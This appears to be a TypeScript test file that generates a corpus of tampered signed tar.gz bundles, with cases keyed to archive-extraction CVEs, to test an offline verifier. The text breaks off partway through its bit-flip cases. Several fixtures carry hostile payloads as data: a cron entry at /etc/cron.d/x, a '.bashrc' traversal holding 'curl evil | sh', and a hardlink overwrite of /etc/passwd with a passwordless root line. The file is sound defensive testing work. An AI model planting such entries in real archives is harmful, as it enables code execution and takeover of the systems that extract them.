/**
 * Tamper corpus for the offline verifier (issue 2 "Verify (offline, hostile input)"; evidence-formats.md
 * section (c)). Everything is generated in memory from one valid signed bundle built with the real
 * `buildBundle`; nothing binary is committed. Each case names the attack it stands for, the finding codes
 * `readArchive` MUST produce (exactly), and the codes + exit code `verifyBundle` MUST produce (at least).
 *
 * Two ways to tamper:
 * - `repack`: the attacker edits the archive without re-signing (hashes and signatures no longer match),
 *   with the low-level writer in test/helpers/tar.ts that can also write hostile entries;
 * - `reseal`: the attacker (or a compromised collector) recomputes manifests, statement and signatures, so
 *   only a later check (content scan, trust policy, strict JSON, manifest rules) can catch it.
 */
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { gzipSync } from 'node:zlib';
import { BAG_INFO_TXT, BAGIT_TXT, MANIFEST, manifestText, TAG_MANIFEST } from '../../../src/bundle/bagit.ts';
import { buildBundle, captureSeconds, makeBundleId } from '../../../src/bundle/build.ts';
import { canonicalBytes } from '../../../src/bundle/canonical.ts';
import { COLLECTION_FILE } from '../../../src/bundle/layout.ts';
import type { Caps } from '../../../src/bundle/reader.ts';
import { readArchive } from '../../../src/bundle/reader.ts';
import type { TrustRoot } from '../../../src/verify/trust.ts';
import { ENVELOPE_FILE, PAYLOAD_TYPE, sigFilePath, STATEMENT_FILE, type Statement } from '../../../src/bundle/statement.ts';
import { gzipDeterministic, writeTar } from '../../../src/bundle/tar.ts';
import { pae, parsePrivateKeyPem, privateKeyPem, sha256Hex, sign, signingKeyFromSeed, type PublicKey, type SigningKey } from '../../../src/crypto/index.ts';
import type { Capture } from '../../../src/model/collection.ts';
import type { KubeObject } from '../../../src/model/object.ts';
import { buildTar, concat, fileEntries, gzip, paxRecord, type TarEntry, type TarItem } from '../../helpers/tar.ts';

const enc = new TextEncoder();
const dec = new TextDecoder();

// ---------------------------------------------------------------------------------------------------------
// Keys and trust

export interface Keys {
  /** The sample collector key (keys/collector.test-only.key.pem when present; else a fixed test seed). */
  collector: SigningKey;
  /** A second trusted key (reviewer). */
  reviewer: SigningKey;
  /** A key nobody trusts. */
  attacker: SigningKey;
}

/** Trust as data, independent of the trust-file format: the e2e test maps it to the verifier's type. */
export interface TrustSpec {
  keys: { name: string; role: string; publicKey: PublicKey; notBefore?: string; notAfter?: string }[];
  threshold: number;
}

const seed = (b: number): Uint8Array => new Uint8Array(32).fill(b);

function loadKeys(): Keys {
  let collector: SigningKey;
  try {
    const pem = readFileSync(fileURLToPath(new URL('../../../keys/collector.test-only.key.pem', import.meta.url)), 'utf8');
    collector = parsePrivateKeyPem(pem, 'keys/collector.test-only.key.pem');
  } catch {
    collector = signingKeyFromSeed(seed(0x11));
  }
  return { collector, reviewer: signingKeyFromSeed(seed(0x22)), attacker: signingKeyFromSeed(seed(0x66)) };
}

/** The verifier's TrustRoot for a corpus trust spec (what `gwe verify --trust corpus-trust.yaml` would load). */
export function toTrustRoot(t: TrustSpec): TrustRoot {
  return {
    source: 'corpus-trust.yaml',
    keys: t.keys.map((k) => ({ name: k.name, role: k.role, publicKey: k.publicKey, keyId: k.publicKey.keyId, ...(k.notBefore ? { notBefore: k.notBefore } : {}), ...(k.notAfter ? { notAfter: k.notAfter } : {}) })),
    threshold: t.threshold,
    required: [],
  };
}

export function defaultTrust(k: Keys): TrustSpec {
  return { keys: [{ name: 'collector', role: 'collector', publicKey: k.collector.publicKey }], threshold: 1 };
}

// ---------------------------------------------------------------------------------------------------------
// The valid base bundle

export const CAPTURED_AT = '2026-11-01T00:00:00Z';

/** A small but realistic capture: class, gateway, route, service, reduced TLS secret, CA configmap, report. */
export function baseCapture(): Capture {
  const gw = 'gateway.networking.k8s.io/v1';
  const objects: KubeObject[] = [
    { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'root-ca', namespace: 'infra' }, data: { 'ca.crt': '-----BEGIN CERTIFICATE-----\nMIIBszCCAVmgAwIBAgIUQ2E=\n-----END CERTIFICATE-----\n' } },
    {
      apiVersion: 'v1',
      kind: 'Secret',
      metadata: { name: 'chat-tls', namespace: 'infra' },
      type: 'kubernetes.io/tls',
      dataKeys: ['tls.crt', 'tls.key'],
      certificateMetadata: { 'tls.crt': { status: 'invalid', error: 'fixture: not parsed' } },
    },
    { apiVersion: 'v1', kind: 'Service', metadata: { name: 'chat-v1', namespace: 'chat', labels: { 'gateway-evidence.dev/service-type': 'model' } }, spec: { ports: [{ port: 8080 }] } },
    { apiVersion: gw, kind: 'Gateway', metadata: { name: 'shared', namespace: 'infra' }, spec: { gatewayClassName: 'eg', listeners: [{ name: 'https', port: 443, protocol: 'HTTPS' }] } },
    { apiVersion: gw, kind: 'GatewayClass', metadata: { name: 'eg' }, spec: { controllerName: 'gateway.envoyproxy.io/gatewayclass-controller' } },
    {
      apiVersion: gw,
      kind: 'HTTPRoute',
      metadata: { name: 'chat', namespace: 'chat' },
      spec: { parentRefs: [{ name: 'shared', namespace: 'infra' }], rules: [{ backendRefs: [{ name: 'chat-v1', port: 8080 }] }] },
    },
  ];
  const report = enc.encode('apiVersion: gateway.networking.k8s.io/v1\nkind: ConformanceReport\nmode: default\n');
  return {
    snapshot: { objects, conformanceReports: [{ name: 'standard-v1.4.0-default-report.yaml', sha256: sha256Hex(report), bytes: report }] },
    record: {
      tool: { name: 'gateway-evidence', version: '0.1.0' },
      capturedAt: CAPTURED_AT,
      mode: 'files',
      cluster: { name: 'ai-platform', uid: '3b1f0c3e-0000-4000-8000-000000000001' },
      scope: {},
      sources: [{ name: 'samples/cluster/dump.yaml', sha256: '0'.repeat(64), bytes: 1 }],
      counts: { ConfigMap: 1, Gateway: 1, GatewayClass: 1, HTTPRoute: 1, Secret: 1, Service: 1 },
      skipped: {},
      gaps: [],
      warnings: [],
      partial: false,
    },
  };
}

export interface Fixture {
  keys: Keys;
  capture: Capture;
  /** The valid bundle (.tar.gz bytes). */
  bytes: Uint8Array;
  root: string;
  /** Every file of the valid bundle relative to the root, signatures included. */
  files: Map<string, Uint8Array>;
  mtime: number;
}

export function makeFixture(): Fixture {
  const keys = loadKeys();
  const capture = baseCapture();
  const built = buildBundle(capture, { signers: [keys.collector] });
  const read = readArchive(built.bytes);
  if (read.fatal || read.findings.length > 0) throw new Error(`base bundle does not read cleanly: ${JSON.stringify(read.findings)}`);
  return { keys, capture, bytes: built.bytes, root: read.root, files: read.files, mtime: captureSeconds(CAPTURED_AT) };
}

// ---------------------------------------------------------------------------------------------------------
// Tamper tools

/** Repack files (relative to `root`) with the hostile writer; `edit` may add, drop or reorder tar items. */
export function repack(root: string, files: ReadonlyMap<string, Uint8Array>, edit: (items: TarItem[]) => TarItem[] = (x) => x, opts?: Parameters<typeof buildTar>[1]): Uint8Array {
  return gzip(buildTar(edit(fileEntries(root, new Map(files))), opts));
}

export function withFiles(files: ReadonlyMap<string, Uint8Array>, changes: Record<string, Uint8Array | string | null>): Map<string, Uint8Array> {
  const out = new Map(files);
  for (const [p, v] of Object.entries(changes)) {
    if (v === null) out.delete(p);
    else out.set(p, typeof v === 'string' ? enc.encode(v) : v);
  }
  return out;
}

/** Copy of `b` with one bit flipped in the middle byte (keeps ASCII text ASCII where it matters little). */
export function flipByte(b: Uint8Array, at = Math.floor(b.length / 2)): Uint8Array {
  const out = new Uint8Array(b);
  out[at]! ^= 0x01;
  return out;
}

export interface ResealOptions {
  signers?: SigningKey[];
  /** Edit the statement object before serialising. */
  statement?: (s: Statement) => void;
  /** Replace the signatures map (keyid -> 64 bytes) before the envelope is written. */
  sigs?: (sigs: Map<string, Uint8Array>, statementBytes: Uint8Array) => void;
  /** Replace the envelope bytes entirely. */
  envelope?: (statementBytes: Uint8Array, sigs: Map<string, Uint8Array>) => Uint8Array;
  /** Archive root (default: the recomputed bundle id). */
  root?: (bundleId: string) => string;
  /** Files added after sealing (outside the manifests). */
  extra?: Record<string, Uint8Array | string>;
  /** Edit collection.json bytes. */
  collection?: (b: Uint8Array) => Uint8Array;
  /** Edit the manifest text after it is computed (the tag manifest covers the edited text). */
  manifest?: (text: string) => string;
}

/**
 * Re-seal a bag after editing its payload: manifest, Payload-Oxum, bundle id, tag manifest, statement and
 * signatures are all recomputed, as a compromised collector would. Returns the archive bytes.
 */
export function reseal(fx: Fixture, editPayload: (payload: Map<string, Uint8Array>) => void, o: ResealOptions = {}): Uint8Array {
  const payload = new Map([...fx.files].filter(([p]) => p.startsWith('data/')));
  editPayload(payload);
  let manifest = manifestText(payload);
  if (o.manifest) manifest = enc.encode(o.manifest(dec.decode(manifest)));
  const bundleId = makeBundleId(CAPTURED_AT, manifest);
  let bytes = 0;
  for (const b of payload.values()) bytes += b.length;
  const bagInfo = dec
    .decode(fx.files.get(BAG_INFO_TXT))
    .replace(/^External-Identifier: .*$/m, `External-Identifier: ${bundleId}`)
    .replace(/^Payload-Oxum: .*$/m, `Payload-Oxum: ${bytes}.${payload.size}`);
  const collection = o.collection ? o.collection(fx.files.get(COLLECTION_FILE)!) : fx.files.get(COLLECTION_FILE)!;
  const tagFiles = new Map<string, Uint8Array>([
    [BAGIT_TXT, fx.files.get(BAGIT_TXT)!],
    [BAG_INFO_TXT, enc.encode(bagInfo)],
    [COLLECTION_FILE, collection],
    [MANIFEST, manifest],
  ]);
  const tagManifest = manifestText(tagFiles);
  const stmt = JSON.parse(dec.decode(fx.files.get(STATEMENT_FILE))) as Statement;
  stmt.subject = [{ name: TAG_MANIFEST, digest: { sha256: sha256Hex(tagManifest) } }];
  stmt.predicate.bundleId = bundleId;
  o.statement?.(stmt);
  const statement = canonicalBytes(stmt);
  const sigs = new Map<string, Uint8Array>();
  for (const k of o.signers ?? [fx.keys.collector]) sigs.set(k.keyId, sign(pae(PAYLOAD_TYPE, statement), k));
  o.sigs?.(sigs, statement);
  const envelope = o.envelope ? o.envelope(statement, sigs) : envelopeOf(statement, sigs);
  const files = new Map<string, Uint8Array>([...tagFiles, [TAG_MANIFEST, tagManifest], ...payload, [STATEMENT_FILE, statement], [ENVELOPE_FILE, envelope]]);
  for (const [id, s] of sigs) files.set(sigFilePath(id), s);
  for (const [p, v] of Object.entries(o.extra ?? {})) files.set(p, typeof v === 'string' ? enc.encode(v) : v);
  const root = o.root ? o.root(bundleId) : bundleId;
  return gzipDeterministic(writeTar([...files].map(([p, b]) => ({ path: `${root}/${p}`, bytes: b })), fx.mtime));
}

function envelopeOf(statement: Uint8Array, sigs: Map<string, Uint8Array>, keyIdFor: (id: string) => string = (id) => id): Uint8Array {
  const signatures = [...sigs].map(([id, s]) => ({ keyid: keyIdFor(id), sig: Buffer.from(s).toString('base64') })).sort((a, b) => (a.keyid < b.keyid ? -1 : 1));
  return canonicalBytes({ payload: Buffer.from(statement).toString('base64'), payloadType: PAYLOAD_TYPE, signatures });
}

const objectFile = (fx: Fixture, kind: string): string => {
  const p = [...fx.files.keys()].find((k) => k.startsWith('data/objects/') && k.includes(`/${kind}/`));
  if (!p) throw new Error(`fixture has no ${kind} object`);
  return p;
};
const reportFile = (fx: Fixture): string => [...fx.files.keys()].find((k) => k.startsWith('data/conformance-reports/'))!;
const sigFile = (fx: Fixture): string => [...fx.files.keys()].find((k) => k.endsWith('.sig'))!;
const json = (v: unknown): Uint8Array => canonicalBytes(v);

// ---------------------------------------------------------------------------------------------------------
// Cases

export type Exit = 0 | 1 | 2 | 65;

export interface TamperCase {
  name: string;
  description: string;
  /** evidence-formats.md (c) row and the prior art (CVE / GHSA / issue) it stands for. */
  attack: string;
  /** Exactly the set of codes readArchive must report (empty: the archive layer is clean). */
  reader: string[];
  readerFatal?: boolean;
  /** Codes verifyBundle must report (at least these) and the exit code of `gwe verify`. */
  verify: { codes: string[]; exit: Exit };
  caps?: Partial<Caps>;
  trust?: (k: Keys) => TrustSpec;
  make: (fx: Fixture) => Uint8Array;
}

const R = (fx: Fixture): string => fx.root;
const INTEGRITY = 2 as const;
const FINDINGS = 1 as const;

/** Entries for the reader-level attacks: add one hostile item to an otherwise valid archive. */
function plus(item: TarItem | TarItem[], at: 'start' | 'end' = 'end') {
  return (fx: Fixture) => repack(R(fx), fx.files, (items) => (at === 'start' ? [...[item].flat(), ...items] : [...items, ...[item].flat()]));
}
const e = (fx: Fixture, rel: string, extra: Partial<TarEntry> = {}): TarEntry => ({ name: `${fx.root}/${rel}`, data: '{}', ...extra });

export const CASES: TamperCase[] = [
  // ---- (c)1 path traversal -------------------------------------------------------------------------------
  {
    name: 'path-absolute',
    description: 'an entry with an absolute path (/etc/cron.d/x)',
    attack: '(c)1 node-tar CVE-2021-32804 (absolute path); kubectl cp CVE-2019-11246',
    reader: ['ARCHIVE_ABSOLUTE_PATH'],
    verify: { codes: ['ARCHIVE_ABSOLUTE_PATH'], exit: INTEGRITY },
    make: (fx) => repack(R(fx), fx.files, (items) => [...items, { name: '/etc/cron.d/x', data: '* * * * * root sh' }]),
  },
  {
    name: 'path-dotdot',
    description: 'an entry that climbs out of the root with ..',
    attack: '(c)1 kubectl cp CVE-2019-1002101, CVE-2019-11249 (k8s#80984)',
    reader: ['ARCHIVE_PATH_TRAVERSAL'],
    verify: { codes: ['ARCHIVE_PATH_TRAVERSAL'], exit: INTEGRITY },
    make: (fx) => plus(e(fx, '../../.bashrc', { data: 'curl evil | sh' }))(fx),
  },
  {
    name: 'path-drive-relative',
    description: 'a Windows drive-relative name (C:..\\x)',
    attack: '(c)1 node-tar CVE-2021-37713 (drive-relative paths)',
    reader: ['ARCHIVE_ABSOLUTE_PATH'],
    verify: { codes: ['ARCHIVE_ABSOLUTE_PATH'], exit: INTEGRITY },
    make: plus({ name: 'c:../evil.json', data: '{}' }),
  },
  {
    name: 'path-backslash',
    description: 'a name with backslashes (data\\..\\..\\x on Windows)',
    attack: '(c)1 node-tar CVE-2021-37713; sha256sum escapes backslash names',
    reader: ['ARCHIVE_BACKSLASH'],
    verify: { codes: ['ARCHIVE_BACKSLASH'], exit: INTEGRITY },
    make: (fx) => plus(e(fx, 'data\\..\\..\\evil.json'))(fx),
  },
  {
    name: 'path-bad-charset',
    description: 'a name with a space and upper case (outside [a-z0-9._/-])',
    attack: '(c)1 charset whitelist',
    reader: ['ARCHIVE_BAD_CHARSET'],
    verify: { codes: ['ARCHIVE_BAD_CHARSET'], exit: INTEGRITY },
    make: (fx) => plus(e(fx, 'data/objects/Evil File.json'))(fx),
  },
  {
    name: 'path-dot-segment',
    description: 'a name with a "." segment that aliases a hashed file',
    attack: '(c)1 canonical paths only',
    reader: ['ARCHIVE_NONCANONICAL_PATH'],
    verify: { codes: ['ARCHIVE_NONCANONICAL_PATH'], exit: INTEGRITY },
    make: (fx) => plus(e(fx, './bagit.txt', { data: 'BagIt-Version: 0.97\n' }))(fx),
  },
  // ---- (c)2 links and special files ----------------------------------------------------------------------
  {
    name: 'symlink-entry',
    description: 'a symlink entry pointing outside the root',
    attack: '(c)2 node-tar CVE-2021-32803 / CVE-2021-37701; CVE-2026-23745 (GHSA-8qq5-rm4j-mr97); kubectl CVE-2019-11251',
    reader: ['ARCHIVE_LINK_ENTRY'],
    verify: { codes: ['ARCHIVE_LINK_ENTRY'], exit: INTEGRITY },
    make: (fx) => plus(e(fx, 'data/objects/escape', { type: '2', data: '', linkname: '/etc' }))(fx),
  },
  {
    name: 'symlink-drive-relative-target',
    description: 'a symlink whose target is drive-relative (C:../../x)',
    attack: '(c)1/2 node-tar CVE-2026-31802 (GHSA-9ppj-qmqm-q256)',
    reader: ['ARCHIVE_LINK_ENTRY'],
    verify: { codes: ['ARCHIVE_LINK_ENTRY'], exit: INTEGRITY },
    make: (fx) => plus(e(fx, 'data/objects/drive', { type: '2', data: '', linkname: 'C:../../windows' }))(fx),
  },
  {
    name: 'symlink-dir-then-file',
    description: 'a symlink at a directory path, then a file written "through" it',
    attack: '(c)2 node-tar CVE-2021-32803 / CVE-2021-37712 (symlink dir-cache poisoning)',
    reader: ['ARCHIVE_LINK_ENTRY', 'ARCHIVE_UNSORTED'],
    verify: { codes: ['ARCHIVE_LINK_ENTRY'], exit: INTEGRITY },
    make: (fx) =>
      plus([e(fx, 'data/evil', { type: '2', data: '', linkname: '/tmp' }), e(fx, 'data/evil/payload.json')])(fx),
  },
  {
    name: 'hardlink-entry',
    description: 'a hardlink aliasing a hashed file',
    attack: '(c)2 node-tar CVE-2018-20834',
    reader: ['ARCHIVE_LINK_ENTRY'],
    verify: { codes: ['ARCHIVE_LINK_ENTRY'], exit: INTEGRITY },
    make: (fx) => plus(e(fx, 'data/objects/alias.json', { type: '1', data: '', linkname: `${fx.root}/bagit.txt` }))(fx),
  },
  {
    name: 'hardlink-then-overwrite',
    description: 'a hardlink to /etc/passwd, then a regular file of the same name (overwrites the target on extract)',
    attack: '(c)2 node-tar CVE-2018-20834',
    reader: ['ARCHIVE_LINK_ENTRY', 'ARCHIVE_DUPLICATE_ENTRY', 'ARCHIVE_UNSORTED'],
    verify: { codes: ['ARCHIVE_LINK_ENTRY', 'ARCHIVE_DUPLICATE_ENTRY'], exit: INTEGRITY },
    make: (fx) => plus([e(fx, 'data/objects/p.json', { type: '1', data: '', linkname: '/etc/passwd' }), e(fx, 'data/objects/p.json', { data: 'root::0:0::/:/bin/sh' })])(fx),
  },
  ...(['3', '4', '6'] as const).map(
    (t): TamperCase => ({
      name: `special-entry-${{ '3': 'chardev', '4': 'blockdev', '6': 'fifo' }[t]}`,
      description: `a ${{ '3': 'character device', '4': 'block device', '6': 'FIFO' }[t]} entry`,
      attack: '(c)2 devices and FIFOs are never evidence',
      reader: ['ARCHIVE_SPECIAL_ENTRY'],
      verify: { codes: ['ARCHIVE_SPECIAL_ENTRY'], exit: INTEGRITY },
      make: (fx) => plus(e(fx, 'data/objects/dev', { type: t, data: '' }))(fx),
    }),
  ),
  // ---- (c)3 duplicates -----------------------------------------------------------------------------------
  {
    name: 'duplicate-entry',
    description: 'manifest-sha256.txt appears twice; extractors keep the second (evil) copy',
    attack: '(c)3 last-one-wins (GNU tar, Python tarfile); syft#1445; pub-dev#9579',
    reader: ['ARCHIVE_DUPLICATE_ENTRY', 'ARCHIVE_UNSORTED'],
    verify: { codes: ['ARCHIVE_DUPLICATE_ENTRY'], exit: INTEGRITY },
    make: (fx) => plus(e(fx, MANIFEST, { data: '' }))(fx),
  },
  {
    name: 'file-dir-collision',
    description: 'data/objects is both a file and a directory',
    attack: '(c)3 file/directory prefix collision',
    reader: ['ARCHIVE_FILE_DIR_COLLISION', 'ARCHIVE_UNSORTED'],
    verify: { codes: ['ARCHIVE_FILE_DIR_COLLISION'], exit: INTEGRITY },
    make: (fx) => plus(e(fx, 'data/objects'))(fx),
  },
  // ---- (c)4 case and Unicode -----------------------------------------------------------------------------
  {
    name: 'case-collision',
    description: 'BAGIT.TXT next to bagit.txt (case-insensitive file systems merge them)',
    attack: '(c)4 node-tar CVE-2021-37712; CVE-2026-23950 (APFS)',
    reader: ['ARCHIVE_BAD_CHARSET', 'ARCHIVE_CASE_COLLISION'],
    verify: { codes: ['ARCHIVE_CASE_COLLISION'], exit: INTEGRITY },
    make: (fx) => plus(e(fx, 'BAGIT.TXT', { data: 'BagIt-Version: 0.97\n' }), 'start')(fx),
  },
  {
    name: 'unicode-nfd-name',
    description: 'a name in NFD form (e + combining acute) that NFC-normalising file systems alias',
    attack: '(c)4 Unicode normalisation collisions',
    reader: ['ARCHIVE_BAD_CHARSET'],
    verify: { codes: ['ARCHIVE_BAD_CHARSET'], exit: INTEGRITY },
    make: (fx) => plus({ name: enc.encode(`${fx.root}/data/objects/cafe\u0301.json`), data: '{}' })(fx),
  },
  {
    name: 'unicode-sharp-s',
    description: 'a name with ß (folds to ss on some file systems)',
    attack: '(c)4 ß/ss collisions',
    reader: ['ARCHIVE_BAD_CHARSET'],
    verify: { codes: ['ARCHIVE_BAD_CHARSET'], exit: INTEGRITY },
    make: (fx) => plus({ name: enc.encode(`${fx.root}/data/objects/stra\u00dfe.json`), data: '{}' })(fx),
  },
  // ---- (c)5 parser differentials -------------------------------------------------------------------------
  {
    name: 'pax-path-override',
    description: 'a pax "x" header whose path record renames the next entry',
    attack: '(c)5 TARmageddon CVE-2025-62518 / GHSA-j5gw-2vrg-8fgx',
    reader: ['ARCHIVE_PAX_UNSUPPORTED'],
    readerFatal: true,
    verify: { codes: ['ARCHIVE_PAX_UNSUPPORTED'], exit: INTEGRITY },
    make: (fx) => plus([e(fx, 'paxheaders/x', { type: 'x', data: paxRecord('path', `${fx.root}/${MANIFEST}`) }), e(fx, 'data/objects/innocent.json')])(fx),
  },
  {
    name: 'pax-size-override',
    description: 'a pax "x" header whose size record disagrees with the ustar size (hides an entry)',
    attack: '(c)5 GHSA-fp55-jw48-c537, tar crate CVE-2026-33055, tar-rs#454',
    reader: ['ARCHIVE_PAX_UNSUPPORTED'],
    readerFatal: true,
    verify: { codes: ['ARCHIVE_PAX_UNSUPPORTED'], exit: INTEGRITY },
    make: (fx) => plus([e(fx, 'paxheaders/x', { type: 'x', data: paxRecord('size', '0') }), e(fx, 'data/objects/hidden.json', { data: 'x'.repeat(1024) })], 'start')(fx),
  },
  {
    name: 'pax-global-header',
    description: 'a pax global "g" header',
    attack: '(c)5 node-tar 7.5.16 interpretation differential (Meelo#1827)',
    reader: ['ARCHIVE_PAX_UNSUPPORTED'],
    readerFatal: true,
    verify: { codes: ['ARCHIVE_PAX_UNSUPPORTED'], exit: INTEGRITY },
    make: plus({ name: 'pax_global_header', type: 'g', data: paxRecord('comment', 'x') }, 'start'),
  },
  {
    name: 'gnu-longname',
    description: 'a GNU "L" long-name record renaming the next entry',
    attack: '(c)5 GNU longname ordering (GHSA-3cv2-h65g-fgmm)',
    reader: ['ARCHIVE_GNU_EXTENSION'],
    readerFatal: true,
    verify: { codes: ['ARCHIVE_GNU_EXTENSION'], exit: INTEGRITY },
    make: (fx) => plus([{ name: '././@LongLink', type: 'L', data: `${fx.root}/${MANIFEST}\0` }, e(fx, 'data/objects/innocent.json')])(fx),
  },
  {
    name: 'gnu-longlink',
    description: 'a GNU "K" long-linkname record',
    attack: '(c)5 GNU extensions we never write',
    reader: ['ARCHIVE_GNU_EXTENSION'],
    readerFatal: true,
    verify: { codes: ['ARCHIVE_GNU_EXTENSION'], exit: INTEGRITY },
    make: plus({ name: '././@LongLink', type: 'K', data: '/etc/passwd\0' }, 'start'),
  },
  {
    name: 'lone-zero-block',
    description: 'a single zero block before more entries (readers that stop there miss them)',
    attack: '(c)5 lone-zero-block hiding (drydock#659)',
    reader: ['ARCHIVE_LONE_ZERO_BLOCK'],
    readerFatal: true,
    verify: { codes: ['ARCHIVE_LONE_ZERO_BLOCK'], exit: INTEGRITY },
    make: (fx) => plus([{ raw: new Uint8Array(512) }, e(fx, 'data/objects/zz-hidden.json')])(fx),
  },
  {
    name: 'data-after-end-marker',
    description: 'a hidden entry after the two-zero-block end marker',
    attack: '(c)5 data after the end',
    reader: ['ARCHIVE_TRAILING_DATA'],
    readerFatal: true,
    verify: { codes: ['ARCHIVE_TRAILING_DATA'], exit: INTEGRITY },
    make: (fx) => repack(R(fx), fx.files, undefined, { trailing: buildTar([e(fx, 'data/objects/hidden.json')], { end: 'none' }) }),
  },
  {
    name: 'gzip-second-member',
    description: 'a second gzip member appended (gunzip concatenates it into the tar stream)',
    attack: '(c)5 concatenated gzip members',
    reader: ['ARCHIVE_TRAILING_DATA'],
    readerFatal: true,
    verify: { codes: ['ARCHIVE_TRAILING_DATA'], exit: INTEGRITY },
    make: (fx) => concat([fx.bytes, gzip(buildTar([e(fx, 'data/objects/hidden.json')]))]),
  },
  {
    name: 'gzip-trailing-garbage',
    description: 'bytes after the gzip trailer',
    attack: '(c)5 data after the end',
    reader: ['ARCHIVE_TRAILING_DATA'],
    readerFatal: true,
    verify: { codes: ['ARCHIVE_TRAILING_DATA'], exit: INTEGRITY },
    make: (fx) => concat([fx.bytes, enc.encode('#!/bin/sh\n')]),
  },
  {
    name: 'header-bad-checksum',
    description: 'a header whose checksum does not match (a lenient reader resyncs and reads something else)',
    attack: '(c)5 strict header parsing',
    reader: ['ARCHIVE_BAD_CHECKSUM'],
    readerFatal: true,
    verify: { codes: ['ARCHIVE_BAD_CHECKSUM'], exit: INTEGRITY },
    make: (fx) => repack(R(fx), fx.files, (items) => items.map((it, i) => (i === 2 ? { ...it, checksumDelta: 7 } : it))),
  },
  {
    name: 'header-size-overrun',
    description: 'a size field larger than the rest of the archive',
    attack: '(c)5/6 size fields that overrun',
    reader: ['ARCHIVE_TRUNCATED'],
    readerFatal: true,
    verify: { codes: ['ARCHIVE_TRUNCATED'], exit: INTEGRITY },
    make: (fx) => repack(R(fx), fx.files, (items) => [...items, e(fx, 'data/zz.json', { sizeField: 0o7777777 })], { end: 'none' }),
  },
  {
    name: 'hidden-data-in-padding',
    description: 'bytes hidden in the zero padding after a file',
    attack: '(c)5 parser differentials (data outside any entry)',
    reader: ['ARCHIVE_NONZERO_PADDING'],
    verify: { codes: ['ARCHIVE_NONZERO_PADDING'], exit: INTEGRITY },
    make: (fx) => repack(R(fx), fx.files, (items) => items.map((it, i) => (i === 0 ? { ...it, padding: enc.encode('-----BEGIN PRIVATE KEY-----') } : it))),
  },
  {
    name: 'truncated-archive',
    description: 'the .tar.gz cut short',
    attack: 'transport damage / truncation',
    reader: ['ARCHIVE_TRUNCATED'],
    readerFatal: true,
    verify: { codes: ['ARCHIVE_TRUNCATED'], exit: INTEGRITY },
    make: (fx) => fx.bytes.subarray(0, Math.floor(fx.bytes.length * 0.6)),
  },
  {
    name: 'not-gzip',
    description: 'a plain tar, not gzip',
    attack: 'not a bundle',
    reader: ['ARCHIVE_NOT_GZIP'],
    readerFatal: true,
    verify: { codes: ['ARCHIVE_NOT_GZIP'], exit: INTEGRITY },
    make: (fx) => buildTar(fileEntries(fx.root, fx.files)),
  },
  {
    name: 'multiple-roots',
    description: 'entries under a second top-level directory',
    attack: '(c)1 every path under the single bundle root',
    reader: ['ARCHIVE_MULTIPLE_ROOTS'],
    readerFatal: true,
    verify: { codes: ['ARCHIVE_MULTIPLE_ROOTS'], exit: INTEGRITY },
    make: plus({ name: 'zz-other/bagit.txt', data: 'x' }),
  },
  {
    name: 'reordered-entries',
    description: 'entries repacked in reverse order (content intact, archive not as written)',
    attack: 'repacked bundle (determinism)',
    reader: ['ARCHIVE_UNSORTED'],
    verify: { codes: ['ARCHIVE_UNSORTED'], exit: 0 },
    make: (fx) => repack(R(fx), fx.files, (items) => [...items].reverse()),
  },
  // ---- (c)6 bombs and caps -------------------------------------------------------------------------------
  {
    name: 'gzip-bomb',
    description: 'a 64 MiB file of zeros (inflation ratio ~1000)',
    attack: '(c)6 node-tar CVE-2026-59873 / GHSA-23hp-3jrh-7fpw (no caps on decompressed bytes)',
    reader: ['ARCHIVE_GZIP_BOMB'],
    readerFatal: true,
    verify: { codes: ['ARCHIVE_GZIP_BOMB'], exit: INTEGRITY },
    make: (fx) => new Uint8Array(gzipSync(buildTar([...fileEntries(fx.root, fx.files), e(fx, 'data/zz-bomb.json', { data: new Uint8Array(64 * 1024 * 1024) })]), { level: 9 })),
  },
  {
    name: 'too-many-entries',
    description: 'more entries than the cap (cap lowered to 40 for the test; the default is 200k)',
    attack: '(c)6 node-tar CVE-2026-59873 (no entry cap)',
    caps: { maxEntries: 40 },
    reader: ['ARCHIVE_CAP_EXCEEDED'],
    readerFatal: true,
    verify: { codes: ['ARCHIVE_CAP_EXCEEDED'], exit: INTEGRITY },
    make: (fx) => plus(Array.from({ length: 40 }, (_, i) => e(fx, `data/zz/${String(i).padStart(3, '0')}.json`)))(fx),
  },
  {
    name: 'deep-nesting',
    description: 'a path 40 segments deep',
    attack: '(c)6 node-tar CVE-2024-28863 / GHSA-f5x3-32g6-xq36 (deep folders)',
    reader: ['ARCHIVE_CAP_EXCEEDED'],
    verify: { codes: ['ARCHIVE_CAP_EXCEEDED'], exit: INTEGRITY },
    make: (fx) => plus(e(fx, `data/${'d/'.repeat(40)}x.json`, { prefix: `${fx.root}/data/${'d/'.repeat(40)}`.slice(0, -1), name: 'x.json' }))(fx),
  },
  {
    name: 'file-too-large',
    description: 'one file above the per-file cap (cap lowered to 4 KiB for the test; the default is 64 MiB)',
    attack: '(c)6 per-file size cap; Go archive/tar CVE-2022-2879 (unbounded sizes)',
    caps: { maxFileBytes: 4096 },
    reader: ['ARCHIVE_CAP_EXCEEDED'],
    verify: { codes: ['ARCHIVE_CAP_EXCEEDED'], exit: INTEGRITY },
    make: (fx) => plus(e(fx, 'data/objects/zz-big.json', { data: 'x'.repeat(5000) }))(fx),
  },
  // ---- flipped byte in every kind of file (no re-signing) -------------------------------------------------
  ...(
    [
      ['bagit', () => BAGIT_TXT, ['BAG_DECLARATION_INVALID', 'DIGEST_MISMATCH']],
      ['bag-info', () => BAG_INFO_TXT, ['DIGEST_MISMATCH']],
      ['collection', () => COLLECTION_FILE, ['DIGEST_MISMATCH']],
      ['manifest', () => MANIFEST, ['DIGEST_MISMATCH']],
      ['tagmanifest', () => TAG_MANIFEST, ['STATEMENT_SUBJECT_MISMATCH']],
      ['object', (fx: Fixture) => objectFile(fx, 'httproute'), ['DIGEST_MISMATCH']],
      ['conformance-report', (fx: Fixture) => reportFile(fx), ['DIGEST_MISMATCH']],
      ['statement', () => STATEMENT_FILE, ['STATEMENT_MISMATCH']],
      ['envelope', () => ENVELOPE_FILE, ['ENVELOPE_INVALID']],
      ['sig', (fx: Fixture) => sigFile(fx), ['SIGFILE_MISMATCH']],
    ] as const
  ).map(
    ([kind, path, codes]): TamperCase => ({
      name: `flip-${kind}`,
      description: `one bit flipped in the middle byte of the ${kind} file, archive repacked without re-signing`,
      attack: '(c)7/8 integrity: any changed byte must be caught',
      reader: [],
      verify: { codes: [...codes], exit: INTEGRITY },
